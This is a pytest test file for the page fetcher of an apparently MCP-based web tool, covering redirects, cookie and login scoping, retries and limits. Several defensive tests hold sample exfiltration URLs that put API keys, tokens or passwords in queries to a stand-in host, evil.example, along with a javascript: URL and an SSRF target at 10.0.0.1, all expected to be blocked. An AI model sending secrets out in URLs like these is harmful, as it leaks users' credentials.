"""Fetching pages: what is sent, what is followed, what is shared, what is said when it fails."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import anyio
import anyio.lowlevel
import pytest

from mcp_web.errors import (
    ConfigError,
    DomainDenied,
    FetchFailed,
    FetchTimeout,
    FetchTooLarge,
    HttpError,
    InvalidUrl,
    LeakBlocked,
    RobotsDisallowed,
    SsrfBlocked,
    UnsupportedContent,
)
from mcp_web.store.sqlite.store import SqliteStore
from miniweb import MiniWeb, Reply, Request, Wire

pytestmark = pytest.mark.anyio


async def test_a_page_comes_with_its_facts(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    site.page("/x", "<h1>Hi</h1>", headers={"Content-Type": "text/html; charset=ISO-8859-1", "ETag": '"1"'})
    fetched = await miniweb.fetcher().get(" Docs.Example/x#part ")
    assert fetched.url == fetched.final_url == "https://docs.example/x"
    assert (fetched.status, fetched.body, fetched.media_type) == (200, b"<h1>Hi</h1>", "text/html")
    assert fetched.charset == "iso-8859-1"
    assert fetched.header("etag") == '"1"'
    assert {"robots", "connect", "wait", "body"} <= set(fetched.timings)
    assert not fetched.authenticated


async def test_markdown_is_asked_for_first(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")

    def choose(request: Request) -> Reply:
        best = request.headers["accept"].partition(",")[0]
        return Reply("# Hi", headers={"Content-Type": best})

    site.route("/x", choose)
    fetched = await miniweb.fetcher().get(site.url("/x"))
    assert fetched.media_type == "text/markdown"
    assert site.asked("/x")[0].headers["user-agent"].startswith("mcp-web/")


async def test_redirects_are_followed_and_remembered(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    other = miniweb.site("new.example")
    site.redirect("/a", "/b?x=1", 301)
    site.redirect("/b", "https://new.example/c", 308)
    other.page("/c", "found")
    fetched = await miniweb.fetcher().get("http://docs.example/a")
    assert fetched.final_url == "https://new.example/c"
    assert fetched.redirects == ("http://docs.example/a", "http://docs.example/b?x=1")


@pytest.mark.parametrize(("hops", "passes"), [(5, True), (6, False)])
async def test_five_redirects_are_the_most(miniweb: MiniWeb, hops: int, passes: bool) -> None:
    site = miniweb.site("docs.example")
    for number in range(hops):
        site.redirect(f"/{number}", f"/{number + 1}")
    site.page(f"/{hops}", "end")
    if passes:
        assert (await miniweb.fetcher().get(site.url("/0"))).body == b"end"
    else:
        with pytest.raises(FetchFailed, match="more than 5"):
            await miniweb.fetcher().get(site.url("/0"))


async def test_a_redirect_to_plain_http_is_noted(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    site.redirect("/a", "http://docs.example/b")
    site.page("/b", "x")
    assert "plain http" in (await miniweb.fetcher().get(site.url("/a"))).notes[0]


async def test_a_cookie_set_on_the_way_is_sent_back_to_its_host_only(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    other = miniweb.site("other.example")
    site.route(
        "/in",
        lambda request: (
            Reply("", 302, {"Location": "https://other.example/x"})
            if "seen=1" in request.headers.get("cookie", "")
            else Reply("", 302, {"Location": "/in", "Set-Cookie": "seen=1; Path=/"})
        ),
    )
    other.page("/x", "page")
    await miniweb.fetcher().get(site.url("/in"))
    assert "cookie" not in other.asked("/x")[0].headers


async def test_a_secure_cookie_is_not_sent_in_the_open(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    cookie = {"Set-Cookie": "session=lamplight; HttpOnly; Secure"}
    site.route("/in", lambda request: Reply("", 302, {"Location": "http://docs.example/open"} | cookie))
    site.redirect("/open", "https://docs.example/closed")
    site.page("/closed", "page")
    await miniweb.fetcher().get(site.url("/in"))
    assert "cookie" not in site.asked("/open")[0].headers
    assert site.asked("/closed")[0].headers["cookie"] == "session=lamplight"


async def test_a_cookie_changes_on_the_way_when_its_host_has_as_many_as_are_kept(miniweb: MiniWeb) -> None:
    many = ["step=1", *(f"c{number}=x" for number in range(30))]

    async def answer(request: Request, wire: Wire) -> None:
        cookies = request.headers.get("cookie", "")
        if "step=2" in cookies:
            await wire.send(Reply(f"{cookies.count('=')} cookies").wire())
            return
        lines = "".join(f"Set-Cookie: {pair}\r\n" for pair in (["step=2"] if "step=1" in cookies else many))
        await wire.send(f"HTTP/1.1 302 Found\r\nLocation: /in\r\nContent-Length: 0\r\n{lines}\r\n".encode())

    site = miniweb.site("docs.example")
    site.behave("/in", answer)
    assert (await miniweb.fetcher().get(site.url("/in"))).body == b"20 cookies"


@pytest.mark.parametrize("then", ["fails", "hangs"])
async def test_a_part_of_a_page_is_not_lost_when_the_next_try_gets_none(miniweb: MiniWeb, then: str) -> None:
    site = miniweb.site("docs.example")

    async def answer(request: Request, wire: Wire) -> None:
        if len(site.asked("/x")) > 1:
            await wire.wait(60 if then == "hangs" else 0)
            await wire.send(Reply("", 503).wire())
            return
        await wire.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 1000\r\n\r\nThe first part.")

    site.behave("/x", answer)
    page = await miniweb.fetcher().get(site.url("/x"), deadline=anyio.current_time() + 2.5)
    assert page.body == b"The first part."
    assert "this is the part that arrived" in page.notes[0]


async def test_cookies_do_not_survive_the_page(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    site.page("/x", "page", headers={"Set-Cookie": "track=1"})
    fetcher = miniweb.fetcher()
    fetched = [await fetcher.get(site.url("/x")) for _ in range(2)]
    assert all("cookie" not in request.headers for request in site.log)
    assert fetched[0].header("set-cookie") is None


async def test_an_unchanged_page_is_confirmed(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    site.route("/x", lambda r: Reply("", 304) if r.headers.get("if-none-match") == '"1"' else Reply("new"))
    fetched = await miniweb.fetcher().get(site.url("/x"), conditional=(("if-none-match", '"1"'),))
    assert (fetched.not_modified, fetched.status, fetched.body) == (True, 304, b"")
    fetched = await miniweb.fetcher().get(site.url("/x"), conditional=(("if-none-match", '"0"'),))
    assert (fetched.not_modified, fetched.body) == (False, b"new")


async def test_a_304_that_nobody_asked_for_is_the_servers_mistake(miniweb: MiniWeb) -> None:
    url = miniweb.site("docs.example").page("/x", "", status=304, headers={"ETag": '"1"'})
    with pytest.raises(FetchFailed, match="304 Not Modified, although the request had no conditions") as caught:
        await miniweb.fetcher().get(url)
    assert (caught.value.status_code, caught.value.retryable) == (304, True)
    assert "server" in caught.value.suggestion


@pytest.mark.parametrize(("status", "said"), [(300, "instead of a page"), (302, "without a usable"), (306, "instead")])
async def test_a_3xx_that_leads_nowhere_says_so(miniweb: MiniWeb, status: int, said: str) -> None:
    url = miniweb.site("docs.example").page("/x", "choose", status=status)
    with pytest.raises(FetchFailed, match=f"answers {status} {said}"):
        await miniweb.fetcher().get(url)


async def test_only_conditions_are_taken_from_the_caller(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    site.page("/x", "page")
    await miniweb.fetcher().get(site.url("/x"), conditional=(("authorization", "Bearer x"),))
    assert "authorization" not in site.asked("/x")[0].headers


@pytest.mark.parametrize(
    ("status", "word"),
    [
        (401, "login"),
        (403, "refuses"),
        (404, "typing"),
        (410, "removed"),
        (451, "legal"),
        (500, "later"),
        (418, "automated"),
    ],
)
async def test_a_status_comes_with_advice_that_fits(miniweb: MiniWeb, status: int, word: str) -> None:
    site = miniweb.site("docs.example")
    site.page("/x", "no", status=status)
    with pytest.raises(HttpError) as caught:
        await miniweb.fetcher().get(site.url("/x"))
    assert caught.value.status_code == status
    assert word in caught.value.suggestion
    assert str(status) in caught.value.message


async def test_a_bot_wall_is_told_from_a_plain_refusal(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    site.page("/x", "checking your browser", status=403, headers={"CF-Mitigated": "challenge"})
    with pytest.raises(HttpError) as caught:
        await miniweb.fetcher().get(site.url("/x"))
    assert caught.value.details["wall"] == "bot"
    assert "rendered" in caught.value.suggestion


async def test_a_passing_failure_is_tried_again(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    answers = iter([Reply("", 503), Reply("", 429, {"Retry-After": "0"}), Reply("here")])
    site.route("/x", lambda request: next(answers))
    assert (await miniweb.fetcher().get(site.url("/x"))).body == b"here"
    assert len(site.asked("/x")) == 3


async def test_a_lasting_failure_is_not_tried_again(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    site.page("/x", "", status=403)
    with pytest.raises(HttpError):
        await miniweb.fetcher().get(site.url("/x"))
    assert len(site.asked("/x")) == 1


async def test_a_long_retry_after_is_passed_on_instead_of_waited_for(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    site.page("/x", "", status=429, headers={"Retry-After": "120"})
    with pytest.raises(HttpError) as caught:
        await miniweb.fetcher().get(site.url("/x"))
    assert caught.value.retry_after == 120
    assert caught.value.retryable
    assert len(site.asked("/x")) == 1


async def test_a_missing_page_is_remembered_for_a_while(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    fetcher = miniweb.fetcher()
    for _ in range(3):
        with pytest.raises(HttpError):
            await fetcher.get(site.url("/x"))
    assert len(site.asked("/x")) == 1
    site.page("/x", "now it is here")
    assert (await fetcher.get(site.url("/x"), fresh=True)).body == b"now it is here"


async def test_a_missing_page_is_remembered_across_processes(miniweb: MiniWeb, tmp_path: Path) -> None:
    site = miniweb.site("docs.example")
    notes = await SqliteStore.open(tmp_path / "s.sqlite")
    for _ in range(2):
        with pytest.raises(HttpError) as caught:
            await miniweb.fetcher(notes=notes).get(site.url("/x"))
        assert caught.value.status_code == 404
    await notes.close()
    assert len(site.asked("/x")) == 1


async def test_an_unknown_host_is_not_looked_up_again_at_once(miniweb: MiniWeb) -> None:
    fetcher = miniweb.fetcher()
    for _ in range(2):
        with pytest.raises(FetchFailed, match="could not be resolved"):
            await fetcher.get("https://nowhere.example/x")
    assert miniweb.names.lookups == ["nowhere.example"]


async def test_at_most_so_many_requests_reach_one_host_at_once(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    at_once: list[int] = []
    running = 0

    async def count(request: Request) -> Reply:
        import asyncio

        nonlocal running
        running += 1
        at_once.append(running)
        for _ in range(20):
            await asyncio.sleep(0)
        running -= 1
        return Reply("x")

    site.route("/p*", count)
    fetcher = miniweb.fetcher(host_concurrency=3, respect_robots=False)
    async with anyio.create_task_group() as group:
        for number in range(30):
            group.start_soon(fetcher.get, site.url(f"/p{number}"))
    assert max(at_once) <= 3
    assert len(at_once) == 30


async def test_a_page_above_the_ceiling_is_refused_without_being_read(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    site.page("/x", b"x" * 30_000)
    with pytest.raises(FetchTooLarge, match="30,000"):
        await miniweb.fetcher(max_bytes=20_000).get(site.url("/x"))
    assert len((await miniweb.fetcher(max_bytes=30_000).get(site.url("/x"))).body) == 30_000


async def test_a_film_is_refused_with_its_type_and_size(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    site.page("/x.mp4", b"x" * 2000, headers={"Content-Type": "video/mp4"})
    with pytest.raises(UnsupportedContent, match="2,000 bytes") as caught:
        await miniweb.fetcher().get(site.url("/x.mp4"))
    assert caught.value.details["type"] == "video/mp4"


async def test_domain_lists_hold_for_subdomains_and_for_redirects(miniweb: MiniWeb) -> None:
    good = miniweb.site("docs.example")
    bad = miniweb.site("www.evil.example")
    bad.page("/x", "evil")
    good.page("/x", "good")
    good.redirect("/r", "https://www.evil.example/x")
    for options in ({"deny_domains": ("evil.example",)}, {"allow_domains": ("docs.example",)}):
        fetcher = miniweb.fetcher(**options)
        assert (await fetcher.get(good.url("/x"))).body == b"good"
        for url in (bad.url("/x"), good.url("/r")):
            with pytest.raises(DomainDenied, match=r"evil\.example"):
                await fetcher.get(url)
    assert bad.log == []


async def test_the_deny_list_is_stronger_than_the_allow_list(miniweb: MiniWeb) -> None:
    with pytest.raises(DomainDenied, match="deny-list"):
        await miniweb.fetcher(allow_domains=("example",), deny_domains=("docs.example",)).get("docs.example")


async def test_a_secret_of_the_server_does_not_leave_in_a_url(miniweb: MiniWeb) -> None:
    site = miniweb.site("evil.example")
    site.page("/", "x")
    with pytest.raises(LeakBlocked):
        await miniweb.fetcher(secrets=("sk-123456789",)).get(site.url("/?key=sk%2D123456789"))
    assert site.log == []
    assert miniweb.names.lookups == []


@pytest.mark.parametrize(
    "url", ["", "   ", "javascript:alert(1)", "https://user:pw@docs.example/", "ftp://docs.example/"]
)
async def test_what_is_no_web_address_is_said_so(miniweb: MiniWeb, url: str) -> None:
    with pytest.raises(InvalidUrl):
        await miniweb.fetcher().get(url)


async def test_the_callers_deadline_is_kept(miniweb: MiniWeb) -> None:
    from miniweb.nasty import NASTY

    site = miniweb.site("docs.example")
    site.behave("/x", NASTY["never_answers"])
    with anyio.fail_after(60), pytest.raises(FetchTimeout):
        await miniweb.fetcher().get(site.url("/x"), deadline=anyio.current_time() + 0.3)


LOGIN = "wiki.example: Authorization: Bearer t0ken || *.corp.example: X-Key: abc"


async def test_a_login_is_sent_to_its_host_over_tls_only(miniweb: MiniWeb) -> None:
    wiki, other = miniweb.site("wiki.example"), miniweb.site("sub.wiki.example")
    wiki.redirect("/out", "https://sub.wiki.example/x")
    for site in (wiki, other):
        site.page("/x", "page")
    fetcher = miniweb.fetcher(login=LOGIN)
    assert (await fetcher.get("https://wiki.example/x")).authenticated
    assert not (await fetcher.get("http://wiki.example/x")).authenticated
    assert not (await fetcher.get("https://wiki.example/out")).authenticated
    assert [r.headers.get("authorization") for r in wiki.asked("/x")] == ["Bearer t0ken", None]
    assert all("authorization" not in request.headers for request in other.log)
    assert all("authorization" not in request.headers for request in wiki.asked("/robots.txt"))


async def test_a_login_does_not_leave_in_a_url(miniweb: MiniWeb) -> None:
    fetcher = miniweb.fetcher(login="wiki.example: Authorization: Bearer t0ken-t0ken")
    with pytest.raises(LeakBlocked):
        await fetcher.get("https://evil.example/?t=t0ken-t0ken")


@pytest.mark.parametrize(
    ("login", "secret"),
    [
        ("Cookie: sid=s3cret-session; theme=dark", "s3cret-session"),
        ('Cookie: a=1; sid="s3cret-session"', "s3cret-session"),
        ("Authorization: Basic " + base64.b64encode(b"alice:s3cret-password").decode(), "s3cret-password"),
        ("X-Key: s3cret-value", "s3cret-value"),
    ],
)
async def test_no_part_of_a_login_leaves_in_a_url(miniweb: MiniWeb, login: str, secret: str) -> None:
    fetcher = miniweb.fetcher(login=f"wiki.example: {login}")
    with pytest.raises(LeakBlocked):
        await fetcher.get(f"https://evil.example/?x={secret}")


@pytest.mark.parametrize(
    ("configured", "port", "sent"),
    [
        ("wiki.example", 443, True),
        ("wiki.example", 8443, False),
        ("wiki.example:8443", 8443, True),
        ("wiki.example:8443", 443, False),
        ("*.example", 443, True),
        ("*.example", 8443, False),
        ("*.example:8443", 8443, True),
    ],
)
async def test_a_login_goes_to_the_configured_port_only(
    miniweb: MiniWeb, configured: str, port: int, sent: bool
) -> None:
    site = miniweb.site("wiki.example")
    site.page("/", "hello")
    fetcher = miniweb.fetcher(login=f"{configured}: X-Key: s3cret-value")
    assert (await fetcher.get(f"https://wiki.example:{port}/")).authenticated == sent
    assert [("x-key" in request.headers) for request in site.asked("/")] == [sent]


async def test_a_login_may_cover_subdomains(miniweb: MiniWeb) -> None:
    site = miniweb.site("a.corp.example")
    site.page("/", "x")
    assert (await miniweb.fetcher(login=LOGIN).get(site.url("/"))).authenticated


async def test_a_cookie_file_is_sent_to_its_host(miniweb: MiniWeb, tmp_path: Path) -> None:
    jar = tmp_path / "cookies.txt"
    jar.write_text(
        "# Netscape HTTP Cookie File\n"
        ".news.example\tTRUE\t/\tTRUE\t4102444800\tsession\tabc\n"
        ".other.example\tTRUE\t/\tTRUE\t4102444800\tother\tdef\n"
    )
    site = miniweb.site("news.example")
    site.page("/x", "page")
    fetched = await miniweb.fetcher(login=f"news.example: cookies {jar}").get(site.url("/x"))
    assert fetched.authenticated
    assert site.asked("/x")[0].headers["cookie"] == "session=abc"


@pytest.mark.parametrize("login", ["nonsense", "wiki.example: no header", "wiki.example: cookies /nowhere/x.txt"])
async def test_a_wrong_login_setting_is_said_without_its_value(miniweb: MiniWeb, login: str) -> None:
    with pytest.raises(ConfigError, match="MCP_WEB_LOGIN") as caught:
        miniweb.fetcher(login=login)
    assert "no header" not in caught.value.message.replace("no header and no cookie file", "")


async def test_a_broken_store_does_not_stop_a_page(miniweb: MiniWeb) -> None:
    from mcp_web.errors import CacheError

    class Broken:
        async def note(self, kind: str, key: str) -> Any:
            raise CacheError("The disk is gone.")

        async def keep_note(self, kind: str, key: str, value: Any, expires_at: float) -> None:
            raise CacheError("The disk is gone.")

    site = miniweb.site("docs.example")
    site.page("/x", "page")
    assert (await miniweb.fetcher(notes=Broken()).get(site.url("/x"))).body == b"page"


async def test_a_page_for_the_browser_is_admitted_by_the_same_rules(miniweb: MiniWeb) -> None:
    site = miniweb.site("docs.example")
    site.robots("User-agent: *\nDisallow: /no")
    fetcher = miniweb.fetcher(secrets=("sk-123456789",), deny_domains=("evil.example",))
    await fetcher.admit(site.url("/yes"))
    for url, error in (
        (site.url("/no"), RobotsDisallowed),
        (site.url("/yes?k=sk-123456789"), LeakBlocked),
        ("https://evil.example/", DomainDenied),
        ("http://10.0.0.1/", SsrfBlocked),
    ):
        with pytest.raises(error):
            await fetcher.admit(url)
    assert [request.path for request in site.log] == ["/robots.txt"]
